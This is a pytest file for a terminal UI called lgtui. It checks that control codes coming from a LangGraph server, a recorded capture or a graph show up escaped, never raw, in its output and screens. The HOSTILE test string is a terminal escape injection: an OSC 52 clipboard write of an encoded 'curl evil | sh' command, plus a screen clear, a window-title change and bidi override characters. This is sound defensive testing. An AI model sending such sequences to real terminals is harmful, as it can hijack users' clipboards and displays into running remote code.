"""Nothing a server, a capture or a graph sends reaches the terminal as control codes: every
sink (stdout JSON, stderr lines, text reports, every widget, toasts, the status bar) is
fed text with ESC/CSI/OSC/BEL, C1 controls and bidi/zero-width characters, and what comes
out shows them escaped."""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path

import orjson
import pytest
from helpers import paths
from helpers.cli import run_cli
from helpers.rawserver import RawServer
from helpers.ui import screen_text, wait_for

from lgtui.events import StreamEvent
from lgtui.recorder import Recorder

# clear screen, OSC 52 (set the clipboard to `curl evil | sh`), OSC 0 (window title), a
# C1 CSI, BEL, a right-to-left override, a word joiner, a byte order mark
HOSTILE = "\x1b[2J\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\x9b31m\u202eevil\u2060\ufeff"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
RAW_BYTES = (b"\x1b", b"\x07", b"\xc2\x9b", b"\xe2\x80\xae", b"\xe2\x81\xa0", b"\xef\xbb\xbf")


def assert_clean_bytes(data: bytes) -> None:
    for raw in RAW_BYTES:
        assert raw not in data, (raw, data[:300])


def assert_clean_screen(app) -> str:
    text = screen_text(app)
    found = RAW.findall(text)
    assert not found, f"raw {found[:5]!r} on screen"
    return text


# -- a hostile server -----------------------------------------------------------------------


def hostile_server_answering(status: int = 200) -> RawServer:
    """A loopback 'LangGraph server' whose every answer is poisoned."""

    async def respond(writer: asyncio.StreamWriter, head: str) -> None:
        path = head.split(" ")[1]
        if status != 200:
            body = orjson.dumps({"detail": HOSTILE})
            writer.write(
                f"HTTP/1.1 {status} Nope\r\ncontent-type: application/json\r\n"
                f"content-length: {len(body)}\r\nconnection: close\r\n\r\n".encode()
                + body
            )
        elif path.startswith("/assistants/search"):
            body = orjson.dumps(
                [
                    {"assistant_id": HOSTILE, "graph_id": HOSTILE + str(i), "name": HOSTILE}
                    for i in range(2)
                ]
            )
            writer.write(
                b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
                + f"content-length: {len(body)}\r\nconnection: close\r\n\r\n".encode()
                + body
            )
        else:
            events = [
                ("metadata", {"run_id": HOSTILE, "attempt": 1}),
                (f"updates|{HOSTILE}:1", {HOSTILE: {"v": HOSTILE}}),
                (HOSTILE, {"x": HOSTILE}),
                ("values", {"__interrupt__": [{"value": HOSTILE, "id": "i1"}]}),
                ("error", {"error": HOSTILE, "message": HOSTILE}),
            ]
            body = b"".join(
                f"event: {name}\ndata: ".encode() + orjson.dumps(data) + b"\n\n"
                for name, data in events
            )
            writer.write(
                b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n"
                + body
            )
        await writer.drain()

    return RawServer(respond)


@pytest.fixture
def hostile_server():
    server = hostile_server_answering()
    yield server
    server.stop()


def test_stream_stdout_and_stderr_from_a_hostile_server(hostile_server):
    proc = run_cli("stream", hostile_server.url, "-a", "agent", "-m", "updates", "--subgraphs")
    out = proc.stdout.encode()
    assert_clean_bytes(out)
    assert_clean_bytes(proc.stderr.encode())
    events = [json.loads(line) for line in proc.stdout.splitlines()]
    assert events[2]["event"] == HOSTILE  # the same value, written so no terminal acts on it
    assert events[1]["data"] == {HOSTILE: {"v": HOSTILE}}
    assert proc.returncode == 1
    assert "\\x1b]52;c;" in proc.stderr and "\\u202e" in proc.stderr


def test_the_available_list_of_a_hostile_server(hostile_server):
    proc = run_cli("stream", hostile_server.url)
    assert proc.returncode == 2
    assert "choose a graph with --assistant; available:" in proc.stderr
    assert_clean_bytes(proc.stderr.encode())
    assert "\\x1b]0;pwned\\x07" in proc.stderr


def test_an_http_error_detail_is_one_escaped_line():
    server = hostile_server_answering(status=401)
    try:
        proc = run_cli("stream", server.url, "-a", "agent")
    finally:
        server.stop()
    assert proc.returncode == 3
    assert_clean_bytes(proc.stderr.encode())
    lines = proc.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("lgtui: HTTP 401")
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in lines[0]


# -- a hostile capture ---------------------------------------------------------------------------


def hostile_capture(path: Path) -> Path:
    recorder = Recorder(
        path,
        source_kind="remote",
        target=HOSTILE,
        request={"assistant": HOSTILE, "stream_mode": [HOSTILE], "thread_id": HOSTILE},
    )
    events = [
        ("metadata", {"run_id": HOSTILE, "attempt": 1}),
        (f"updates|{HOSTILE}:1", {HOSTILE: {"v": HOSTILE}}),
        (
            "debug",
            {"type": "task", "step": 1, "payload": {"id": "t1", "name": HOSTILE, "input": {}}},
        ),
        (
            "messages",
            [
                {"type": "AIMessageChunk", "id": "m1", "content": HOSTILE, "name": HOSTILE},
                {"langgraph_node": HOSTILE},
            ],
        ),
        ("values", {"messages": [{"type": "human", "content": HOSTILE, "id": "h1"}]}),
        (HOSTILE, {"x": HOSTILE}),
        ("values", {"__interrupt__": [{"value": HOSTILE, "id": "i1"}]}),
        ("error", {"error": HOSTILE, "message": HOSTILE}),
    ]
    for i, (name, data) in enumerate(events):
        recorder.write(
            StreamEvent.from_data(i, i * 0.1, name, data), run_id=HOSTILE, thread_id=HOSTILE
        )
    recorder.close("error", HOSTILE)
    return path


def test_info_export_and_diff_of_a_hostile_capture(tmp_path):
    capture = hostile_capture(tmp_path / "h.msgpack")
    for args in (
        ["info", str(capture)],
        ["info", str(capture), "--json"],
        ["export", str(capture)],
    ):
        proc = run_cli(*args)
        assert proc.returncode == 0, proc.stderr
        assert_clean_bytes(proc.stdout.encode())
    info = json.loads(run_cli("info", str(capture), "--json").stdout)
    assert info["assistant"] == HOSTILE
    other = hostile_capture(tmp_path / "g.msgpack")
    proc = run_cli("diff", "--text", str(capture), str(other))
    assert proc.returncode in (0, 1), proc.stderr
    assert_clean_bytes(proc.stdout.encode())


async def test_every_tab_of_a_hostile_replay(tmp_path):
    from lgtui.ui.app import ReplayApp

    app = ReplayApp(str(hostile_capture(tmp_path / "h.msgpack")))
    async with app.run_test(size=(200, 50), notifications=True) as pilot:
        await wait_for(pilot, lambda: app.session is not None and app.session.count == 8)
        await pilot.press("end")
        await pilot.pause(0.3)
        for key in "12345678":
            await pilot.press(key)
            await pilot.pause(0.2)
            text = assert_clean_screen(app)
        assert "\\x1b[2J" in text or "\\x1b" in text
        app.notify(HOSTILE, title=HOSTILE)
        await wait_for(pilot, lambda: "\\u202eevil" in screen_text(app), what="the toast")
        assert_clean_screen(app)


async def test_a_hostile_servers_run_on_screen(hostile_server):
    from lgtui.sources.base import RunRequest
    from lgtui.sources.remote import RemoteSource
    from lgtui.ui.app import LgtuiApp

    app = LgtuiApp(
        RemoteSource(hostile_server.url),
        request=RunRequest("agent", {}, stream_mode=["updates"], subgraphs=True),
    )
    async with app.run_test(size=(200, 50), notifications=True) as pilot:
        await wait_for(pilot, lambda: app.session is not None and app.session.status != "running")
        await pilot.pause(0.3)
        text = assert_clean_screen(app)  # status bar (run id), banner, toasts, the All tab
        assert "\\x1b]52" in text


def test_no_widget_builds_rich_text_itself():
    """Widgets draw with lgtui.ui.text.Text (which escapes); a Rich Text built elsewhere
    could let a string through raw."""
    ui = paths.ROOT / "lgtui" / "ui"
    offenders = [
        str(p.relative_to(ui))
        for p in ui.rglob("*.py")
        if p.name != "text.py" and re.search(r"^from rich\.text import", p.read_text(), re.M)
    ]
    assert offenders == []


def test_the_command_line_writes_only_through_one_place():
    """lgtui's own process writes to stdout/stderr only through lgtui.terminal."""
    root = paths.ROOT / "lgtui"
    offenders = []
    for p in root.rglob("*.py"):
        rel = p.relative_to(root)
        if rel.parts[0] in ("ui", "host", "examples") or rel.name == "terminal.py":
            continue
        text = p.read_text()
        if re.search(r"\bprint\(|sys\.std(out|err)\.write", text):
            offenders.append(str(rel))
    assert offenders == []


def hostile_v2_capture(path: Path) -> Path:
    """A thread-centric run whose every name and payload is poisoned: agents, tool calls,
    a deep agent's todos and files, content blocks, an interrupt, a failure."""
    from lgtui.v2 import event_of

    recorder = Recorder(path, source_kind="remote", target=HOSTILE, request={"assistant": HOSTILE})
    ns = [f"{HOSTILE}:1"]
    state = {
        "messages": [
            {"type": "ai", "content": HOSTILE, "id": "a1",
             "tool_calls": [{"id": "c1", "name": HOSTILE, "args": {HOSTILE: HOSTILE}}]},
            {"type": "tool", "content": HOSTILE, "id": "t1", "tool_call_id": "c1", "name": HOSTILE},
        ],
        "todos": [{"content": HOSTILE, "status": "in_progress"}],
        "files": {HOSTILE: {"content": HOSTILE + "\n" + HOSTILE, "encoding": "utf-8"}},
    }  # fmt: skip
    payloads = [
        ("lifecycle", [], {"event": "running", "graph_name": HOSTILE}),
        ("lifecycle", [], {"event": "started", "namespace": ns, "graph_name": HOSTILE,
                           "cause": {"type": "toolCall", "tool_call_id": HOSTILE}}),
        ("values", ns, state),
        ("values", [], state),
        ("messages", ns, {"event": "message-start", "role": HOSTILE, "id": HOSTILE}),
        ("messages", ns, {"event": "content-block-start", "index": 0,
                          "content": {"type": "tool_call_chunk", "id": "c2", "name": HOSTILE, "args": ""}}),
        ("messages", ns, {"event": "content-block-delta", "index": 0,
                          "delta": {"type": "tool-call-delta", "args": HOSTILE}}),
        ("messages", ns, {"event": "message-finish", "usage": {"input_tokens": 1}}),
        ("tools", ns, {"event": "tool-started", "tool_call_id": "c3", "tool_name": HOSTILE,
                       "input": HOSTILE}),
        ("tools", ns, {"event": "tool-error", "tool_call_id": "c3", "message": HOSTILE}),
        ("input.requested", ns, {"interrupt_id": HOSTILE, "payload": HOSTILE}),
        ("custom", ns, {"name": HOSTILE, "payload": HOSTILE}),
        ("lifecycle", [], {"event": "failed", "graph_name": HOSTILE, "error": HOSTILE}),
    ]  # fmt: skip
    for i, (method, where, data) in enumerate(payloads):
        envelope = {
            "type": "event", "event_id": HOSTILE, "seq": i + 1, "method": method,
            "params": {"namespace": where, "timestamp": 1, "data": data, "node": HOSTILE},
        }  # fmt: skip
        recorder.write(
            event_of(i, i * 0.1, orjson.dumps(envelope)), run_id=HOSTILE, thread_id=HOSTILE
        )
    recorder.close("error", HOSTILE)
    return path


async def test_every_tab_of_a_hostile_thread_stream_replay(tmp_path):
    from lgtui.ui.app import ReplayApp

    capture = hostile_v2_capture(tmp_path / "v2.msgpack")
    for args in (["info", str(capture)], ["export", str(capture)]):
        proc = run_cli(*args)
        assert proc.returncode == 0, proc.stderr
        assert_clean_bytes(proc.stdout.encode())
    app = ReplayApp(str(capture))
    async with app.run_test(size=(200, 50), notifications=True) as pilot:
        await wait_for(pilot, lambda: app.session is not None and app.session.count == 13)
        await pilot.press("end")
        await pilot.pause(0.3)
        for key in "1234567890":
            await pilot.press(key)
            await pilot.pause(0.2)
            assert_clean_screen(app)
        app.main.action_show_tab("files")
        await pilot.press("down", "down")
        await pilot.pause(0.3)
        text = assert_clean_screen(app)
        assert "\\x1b" in text
        await pilot.press("0", "down", "down", "enter")  # an agent chosen: a toast names it
        await pilot.pause(0.3)
        assert_clean_screen(app)


async def test_a_hostile_pause_on_screen_and_on_the_status_bar(tmp_path):
    """What the engine host says of a pause (node and tool names, state, the reason made
    from the user's breakpoint) is the graph's text: escaped in the pause screen and the
    status bar alike."""
    from lgtui.ui.app import ReplayApp
    from lgtui.ui.screens.pause import PauseScreen

    pause = {
        "kind": "tool",
        "reason": f"at a call of tool {HOSTILE}",
        "breakpoint": f"tool:{HOSTILE}",
        "node": HOSTILE,
        "step": HOSTILE,
        "ns": [f"{HOSTILE}:1"],
        "tool": {"name": HOSTILE, "args": {HOSTILE: HOSTILE}},
        "state": {HOSTILE: [HOSTILE]},
    }
    app = ReplayApp(str(hostile_capture(tmp_path / "h.msgpack")))
    async with app.run_test(size=(200, 50)) as pilot:
        await wait_for(pilot, lambda: app.session is not None and app.session.count == 8)
        app.push_screen(PauseScreen(pause))
        await wait_for(pilot, lambda: "\\u202eevil" in screen_text(app), what="the pause")
        assert_clean_screen(app)
        app.pop_screen()
        app.session.status = "running"  # (as a live run's would be, paused)
        app.session.set_pause(pause)
        await wait_for(pilot, lambda: " paused " in screen_text(app), what="the status bar")
        assert_clean_screen(app)


async def test_a_hostile_stop_in_the_debugger(tmp_path):
    """What the graph's process says of a stop (file and function names, source lines,
    locals, an evaluation) is the graph's text: escaped on the debug screen."""
    from lgtui.ui.app import ReplayApp
    from lgtui.ui.screens.debug import DebugScreen

    stop = {
        "file": f"/x/{HOSTILE}.py",
        "line": 3,
        "function": HOSTILE,
        "node": HOSTILE,
        "step": HOSTILE,
        "ns": [f"{HOSTILE}:1"],
        "source": [[2, HOSTILE], [3, HOSTILE]],
        "stack": [{"file": HOSTILE, "line": 3, "function": HOSTILE, "user": True}],
        "locals": {HOSTILE: [HOSTILE]},
        "returned": HOSTILE,
    }
    app = ReplayApp(str(hostile_capture(tmp_path / "h.msgpack")))
    async with app.run_test(size=(200, 50)) as pilot:
        await wait_for(pilot, lambda: app.session is not None and app.session.count == 8)
        screen = DebugScreen(stop, lambda command: None)
        app.push_screen(screen)
        await wait_for(pilot, lambda: "\\u202eevil" in screen_text(app), what="the stop")
        screen.evaluated({"expr": HOSTILE, "error": HOSTILE})
        await pilot.pause(0.1)
        assert_clean_screen(app)
